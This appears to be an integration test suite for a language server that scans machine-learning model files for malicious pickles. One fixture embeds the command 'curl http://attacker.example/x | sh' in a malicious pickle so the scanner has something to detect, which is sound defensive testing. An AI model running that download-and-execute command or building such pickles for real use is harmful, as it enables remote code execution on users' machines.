// The built server driven over stdio JSON-RPC: model files on disk, watchers, settings,
// progress, custom requests and shutdown. One server session; the steps run in order.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import { DiagnosticSeverity, type Diagnostic } from 'vscode-languageserver-protocol';
import { ruleDocsUrl } from '../../server/src/core/rules/docs';
import { defaultInclude } from '../../server/src/core/workspace/walk';
import { DEFAULT_SETTINGS, ScanFileRequest, ScanWorkspaceRequest, TrustChangedNotification } from '../../server/src/protocol';
import { TestClient } from './helpers/lspClient';
import { benignPickle, maliciousPickle, opaqueBlob } from './helpers/pickles';
import { makeWorkspace, removeWorkspace, writeFile } from './helpers/workspace';

const codes = (ds: Diagnostic[]) => ds.map((d) => String(d.code)).sort();
const hasCode = (code: string) => (ds: Diagnostic[]) => ds.some((d) => d.code === code);
const text = (d: Diagnostic): string => (typeof d.message === 'string' ? d.message : d.message.value);

describe('language server: model files on disk', () => {
  let root: string;
  let client: TestClient;

  before(async () => {
    root = makeWorkspace({
      'models/evil.pkl': maliciousPickle('curl http://attacker.example/x | sh'),
      'models/good.pkl': benignPickle(),
      'models/blob.bin': opaqueBlob(),
      'vendor/evil2.pkl': maliciousPickle(),
      'node_modules/pkg/evil3.pkl': maliciousPickle(),
      'notes.txt': 'not covered by msl.include',
    });
    client = await TestClient.start({ root });
  });

  after(() => {
    client?.kill();
    if (root) removeWorkspace(root);
  });

  it('announces text sync, code actions, hover and workspace folders', () => {
    const caps = client.initializeResult.capabilities;
    assert.deepEqual(caps.textDocumentSync, { openClose: true, change: 2 });
    assert.deepEqual(caps.codeActionProvider, { codeActionKinds: ['quickfix', 'source.fixAll.msl'] });
    assert.equal(caps.hoverProvider, true);
    assert.deepEqual(caps.workspace?.workspaceFolders, { supported: true, changeNotifications: true });
    assert.equal(client.initializeResult.serverInfo?.name, 'Model Security Lint');
  });

  it('pulls the msl settings for the workspace folder', async () => {
    const req = await client.waitFor(() => client.configurationRequests[0], 'workspace/configuration');
    assert.deepEqual(req.items, [{ scopeUri: client.uri('').replace(/\/$/, ''), section: 'msl' }]);
  });

  it('registers file watchers for the covered globs, the project config and the provenance manifest', async () => {
    const reg = await client.waitFor(() => client.registrations.find((r) => r.method === 'workspace/didChangeWatchedFiles'), 'watcher registration');
    const rootUri = client.uri('').replace(/\/$/, '');
    assert.deepEqual((reg.registerOptions as { watchers: unknown[] }).watchers, [
      { globPattern: { baseUri: rootUri, pattern: defaultInclude()[0] } },
      { globPattern: { baseUri: rootUri, pattern: 'msl.config.json' } },
      { globPattern: { baseUri: rootUri, pattern: 'msl.lock.json' } },
    ]);
  });

  it('reports the start-up scan with cancellable work-done progress', async () => {
    const end = await client.waitForProgressEnd();
    const events = client.progress.filter((p) => p.token === end.token).map((p) => p.value);
    assert.equal(client.progressTokens.includes(end.token), true, 'token created with window/workDoneProgress/create');
    assert.equal(events[0]!.kind, 'begin');
    assert.equal(events[0]!.cancellable, true);
    assert.match(events[0]!.title!, /Model Security Lint/);
    const last = events.filter((e) => e.kind === 'report').at(-1)!;
    // evil, good, blob, evil2: the four covered files (node_modules and .txt are not).
    assert.equal(last.message?.startsWith('4/4 files'), true, last.message);
    assert.equal(last.percentage, 100);
  });

  it('publishes a critical MSL601 on the malicious pickle, on its own URI', async () => {
    const e = await client.waitForDiagnostics(client.uri('models/evil.pkl'), hasCode('MSL601'));
    const d = e.diagnostics.find((x) => x.code === 'MSL601')!;
    assert.equal(d.severity, DiagnosticSeverity.Error);
    assert.equal(d.source, 'Model Security Lint');
    assert.deepEqual(d.codeDescription, { href: ruleDocsUrl('MSL601') });
    assert.deepEqual(d.range, { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } });
    assert.match(text(d), /^\[@ 0x[0-9a-f]+\] /, 'binary findings name their byte offset');
    assert.match(text(d), /system/);
    assert.deepEqual((d.data as { ruleId: string; severity: string }).severity, 'critical');
  });

  it('publishes no errors for the benign pickle and a hint for an unrecognised .bin', async () => {
    const good = await client.waitForDiagnostics(client.uri('models/good.pkl'));
    assert.deepEqual(good.diagnostics.filter((d) => d.severity === DiagnosticSeverity.Error), []);
    const blob = await client.waitForDiagnostics(client.uri('models/blob.bin'));
    assert.deepEqual(codes(blob.diagnostics), ['MSL702']);
    assert.equal(blob.diagnostics[0]!.severity, DiagnosticSeverity.Hint);
  });

  it('leaves excluded folders and uncovered files alone', () => {
    assert.equal(client.publishCount(client.uri('node_modules/pkg/evil3.pkl')), 0);
    assert.equal(client.publishCount(client.uri('notes.txt')), 0);
  });

  it('sends a workspace summary with the critical count for the status bar', async () => {
    const s = await client.waitFor(() => [...client.summaries].reverse().find((x) => !x.scanning && x.counts.critical >= 2), 'summary');
    // The totals are those of the latest publish of every file (evil.pkl and vendor/evil2.pkl).
    const latest = [...new Set(client.published.map((e) => e.uri))].map((u) => client.latest(u)!);
    const critical = latest.flatMap((e) => e.diagnostics).filter((d) => (d.data as { severity?: string }).severity === 'critical');
    assert.equal(s.counts.critical, critical.length);
    assert.deepEqual([...new Set(latest.filter((e) => e.diagnostics.some((d) => d.code === 'MSL601')).map((e) => e.uri))].sort(), [
      client.uri('models/evil.pkl'),
      client.uri('vendor/evil2.pkl'),
    ]);
    assert.equal(s.filesWithFindings >= 3, true); // + blob.bin (info)
    assert.equal(client.summaries.some((x) => x.scanning), true, 'the summary says when a scan runs');
  });

  it('rescans a file that changed on disk, coalescing a burst of events', async () => {
    const uri = client.uri('models/good.pkl');
    fs.writeFileSync(path.join(root, 'models/good.pkl'), maliciousPickle());
    const seq = client.seq;
    await client.fileEvents(Array.from({ length: 6 }, () => ({ uri, type: 2 as const })));
    await client.waitForDiagnostics(uri, hasCode('MSL601'), seq);
    // Let any straggler scan finish: six events must not cost six scans.
    await client.connection.sendRequest(ScanFileRequest, { uri: client.uri('models/blob.bin') });
    assert.equal(client.publishCount(uri, seq) <= 2, true, `published ${client.publishCount(uri, seq)} times`);
  });

  it('scans a created file and clears the diagnostics of a deleted one', async () => {
    const uri = client.uri('models/new.pkl');
    writeFile(root, 'models/new.pkl', maliciousPickle());
    let seq = client.seq;
    await client.fileEvents([{ uri, type: 1 }]);
    await client.waitForDiagnostics(uri, hasCode('MSL601'), seq);
    fs.rmSync(path.join(root, 'models/new.pkl'));
    seq = client.seq;
    await client.fileEvents([{ uri, type: 3 }]);
    await client.waitForDiagnostics(uri, (ds) => ds.length === 0, seq);
  });

  it('clears every file under a deleted folder', async () => {
    writeFile(root, 'tmpdir/a.pkl', maliciousPickle());
    let seq = client.seq;
    await client.fileEvents([{ uri: client.uri('tmpdir/a.pkl'), type: 1 }]);
    await client.waitForDiagnostics(client.uri('tmpdir/a.pkl'), hasCode('MSL601'), seq);
    fs.rmSync(path.join(root, 'tmpdir'), { recursive: true });
    seq = client.seq;
    await client.fileEvents([{ uri: client.uri('tmpdir'), type: 3 }]);
    await client.waitForDiagnostics(client.uri('tmpdir/a.pkl'), (ds) => ds.length === 0, seq);
  });

  it('applies msl.exclude: a newly excluded folder is rescanned away', async () => {
    await client.waitForDiagnostics(client.uri('vendor/evil2.pkl'), hasCode('MSL601'));
    const seq = client.seq;
    await client.changeSettings({ exclude: [...DEFAULT_SETTINGS.exclude, '**/vendor/**'] });
    await client.waitForDiagnostics(client.uri('vendor/evil2.pkl'), (ds) => ds.length === 0, seq);
    await client.waitForProgressEnd(seq);
    assert.equal(client.latest(client.uri('models/evil.pkl'))!.diagnostics.some((d) => d.code === 'MSL601'), true);
  });

  it('applies msl.include: watchers are re-registered and files no longer covered are cleared', async () => {
    const blob = client.uri('models/blob.bin');
    let seq = client.seq;
    const before = client.registrations.length;
    await client.changeSettings({ include: ['**/*.pkl'] });
    await client.waitForDiagnostics(blob, (ds) => ds.length === 0, seq);
    await client.waitForProgressEnd(seq);
    const reg = client.registrations.slice(before).find((r) => r.method === 'workspace/didChangeWatchedFiles')!;
    assert.deepEqual((reg.registerOptions as { watchers: { globPattern: { pattern: string } }[] }).watchers.map((w) => w.globPattern.pattern), [
      '**/*.pkl',
      'msl.config.json',
      'msl.lock.json',
    ]);
    seq = client.seq;
    await client.changeSettings({ include: [] });
    await client.waitForDiagnostics(blob, hasCode('MSL702'), seq);
    await client.waitForProgressEnd(seq);
  });

  it('scans an added workspace folder and clears a removed one', async () => {
    const other = makeWorkspace({ 'm.pkl': maliciousPickle() });
    try {
      const folder = { uri: pathToFileURL(other).href, name: 'other' };
      const uri = pathToFileURL(path.join(other, 'm.pkl')).href;
      let seq = client.seq;
      await client.connection.sendNotification('workspace/didChangeWorkspaceFolders', { event: { added: [folder], removed: [] } });
      await client.waitForDiagnostics(uri, hasCode('MSL601'), seq);
      seq = client.seq;
      await client.connection.sendNotification('workspace/didChangeWorkspaceFolders', { event: { added: [], removed: [folder] } });
      await client.waitForDiagnostics(uri, (ds) => ds.length === 0, seq);
    } finally {
      removeWorkspace(other);
    }
  });

  it('applies msl.maxFileSizeMB: big files are listed (MSL004), and Scan This File still scans them', async () => {
    const uri = client.uri('models/evil.pkl');
    let seq = client.seq;
    await client.changeSettings({ maxFileSizeMB: 0.00001 }); // about 10 bytes
    const skipped = await client.waitForDiagnostics(uri, hasCode('MSL004'), seq);
    assert.deepEqual(codes(skipped.diagnostics), ['MSL004']);
    seq = client.seq;
    const report = await client.connection.sendRequest(ScanFileRequest, { uri });
    assert.equal(report.uri, uri);
    assert.equal(report.format, 'pickle');
    const published = client.latest(uri, seq)!.diagnostics;
    assert.equal(published.some((d) => d.code === 'MSL601'), true);
    assert.equal(report.counts.critical, published.filter((d) => (d.data as { severity: string }).severity === 'critical').length);
    seq = client.seq;
    await client.changeSettings({ maxFileSizeMB: DEFAULT_SETTINGS.maxFileSizeMB });
    await client.waitForProgressEnd(seq);
  });

  it('msl/scanWorkspace rescans and reports the totals', async () => {
    const seq = client.seq;
    const report = await client.connection.sendRequest(ScanWorkspaceRequest, {});
    // evil.pkl, good.pkl (now malicious too) and blob.bin; vendor/ is excluded by now.
    assert.equal(report.files, 3);
    assert.equal(report.cancelled, false);
    const files = ['models/evil.pkl', 'models/good.pkl', 'models/blob.bin'].map((f) => client.latest(client.uri(f))!.diagnostics);
    const count = (sev: string) => files.flat().filter((d) => (d.data as { severity: string }).severity === sev).length;
    assert.deepEqual(report.counts, { critical: count('critical'), high: count('high'), medium: count('medium'), low: count('low'), info: count('info') });
    assert.equal(report.counts.critical >= 2, true);
    assert.equal(client.progress.some((p) => p.seq > seq && p.value.kind === 'end'), true);
  });

  it('msl/scanFile reports unreadable files as MSL002 and rejects non-file URIs', async () => {
    const uri = client.uri('models/missing.pkl');
    const report = await client.connection.sendRequest(ScanFileRequest, { uri });
    assert.equal(typeof report.error, 'string');
    assert.equal(report.counts.medium, 1);
    const e = await client.waitForDiagnostics(uri);
    assert.deepEqual(codes(e.diagnostics), ['MSL002']);
    await assert.rejects(client.connection.sendRequest(ScanFileRequest, { uri: 'untitled:Untitled-1' }), /Only file: URIs/);
  });

  it('scans a model file from disk when the client opens it as a document', async () => {
    writeFile(root, 'opened/x.pt', maliciousPickle());
    const uri = client.uri('opened/x.pt');
    await client.open(uri, 'binary content as text', 'plaintext');
    await client.waitForDiagnostics(uri, hasCode('MSL601'));
  });

  it('publishes msl.config.json problems on the config file, and clears them when fixed', async () => {
    const uri = client.uri('msl.config.json');
    writeFile(root, 'msl.config.json', '{ "bogus": 1 }');
    let seq = client.seq;
    await client.fileEvents([{ uri, type: 1 }]);
    const bad = await client.waitForDiagnostics(uri, (ds) => ds.length > 0, seq);
    assert.equal(bad.diagnostics.length, 1);
    assert.match(text(bad.diagnostics[0]!), /unknown key "bogus"/);
    assert.equal(bad.diagnostics[0]!.severity, DiagnosticSeverity.Warning);
    writeFile(root, 'msl.config.json', '{ "exclude": ["**/opened/**"], "include": ["**/*.pt", "**/*.pkl"] }');
    seq = client.seq;
    const registered = client.registrations.length;
    await client.fileEvents([{ uri, type: 2 }]);
    await client.waitForDiagnostics(uri, (ds) => ds.length === 0, seq);
    // The config's exclude adds to the setting's: the rescan drops opened/x.pt; its include
    // replaces the setting's: blob.bin is no longer covered, and the watchers follow.
    await client.waitForDiagnostics(client.uri('opened/x.pt'), (ds) => ds.length === 0, seq);
    await client.waitForDiagnostics(client.uri('models/blob.bin'), (ds) => ds.length === 0, seq);
    const reg = await client.waitFor(() => client.registrations.slice(registered).find((r) => r.method === 'workspace/didChangeWatchedFiles'), 'new watchers');
    assert.deepEqual((reg.registerOptions as { watchers: { globPattern: { pattern: string } }[] }).watchers.map((w) => w.globPattern.pattern), [
      '**/*.pt',
      '**/*.pkl',
      'msl.config.json',
      'msl.lock.json',
    ]);
  });

  it('records Workspace Trust changes', async () => {
    await client.connection.sendNotification(TrustChangedNotification, { trusted: true });
    await client.waitFor(() => client.logs.find((l) => l.startsWith('Workspace Trust: trusted')), 'trust log');
  });

  it('shuts down cleanly', async () => {
    assert.equal(await client.shutdown(), 0);
  });
});
